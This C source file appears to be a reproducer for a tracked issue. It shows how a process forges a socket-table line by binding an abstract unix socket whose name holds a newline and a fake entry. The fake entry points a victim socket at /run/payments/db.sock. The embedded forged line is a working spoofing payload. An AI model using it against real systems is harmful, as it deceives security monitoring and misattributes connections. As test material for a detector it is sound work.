/* A process that files a socket table of its own as its pod's (issue 20, item 13). A victim
 * (a child process, in the same network namespace) blocks reading a socketpair. The forger's
 * main thread blocks on a UDP socket, so that its namespace is read from a thread in the
 * pod's; a second thread moves to a network namespace of its own (needs CAP_SYS_ADMIN) and
 * blocks on a unix socket bound to an abstract name holding a newline and a forged table line
 * that gives the victim's socket the path /run/payments/db.sock.
 * Prints "ready VICTIM_PID VICTIM_INODE FORGER_TID" and waits until killed; the victim dies
 * with it. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static unsigned long victim_inode;
static int ready[2];

static void *forger(void *arg) {
    (void)arg;
    if (unshare(CLONE_NEWNET)) {
        perror("unshare");
        exit(1);
    }
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    /* Abstract: a NUL first. The kernel writes it as "@x", then the newline, then our line. */
    int n = snprintf(a.sun_path + 1, sizeof a.sun_path - 1,
                     "x\n0000000000000000: 00000002 00000000 00000000 0001 03 %lu /run/payments/db.sock",
                     victim_inode);
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(sa_family_t) + 1 + n)) {
        perror("bind");
        exit(1);
    }
    long tid = syscall(SYS_gettid);
    if (write(ready[1], &tid, sizeof tid) != sizeof tid)
        exit(1);
    char buf[16];
    for (;;)
        recv(s, buf, sizeof buf, 0);
}

int main(void) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || pipe(ready)) {
        perror("socketpair");
        return 1;
    }
    struct stat st;
    fstat(pair[0], &st);
    victim_inode = st.st_ino;
    pid_t victim = fork();
    if (victim == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        char c;
        for (;;)
            read(pair[0], &c, 1);
    }
    close(pair[0]);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (u < 0 || bind(u, (struct sockaddr *)&in, sizeof in)) {
        perror("udp");
        return 1;
    }
    pthread_t t;
    pthread_create(&t, 0, forger, 0);
    long tid;
    if (read(ready[0], &tid, sizeof tid) != sizeof tid)
        return 1;
    printf("ready %d %lu %ld\n", (int)victim, victim_inode, tid);
    fflush(stdout);
    char buf[16];
    for (;;)
        recv(u, buf, sizeof buf, 0);
}
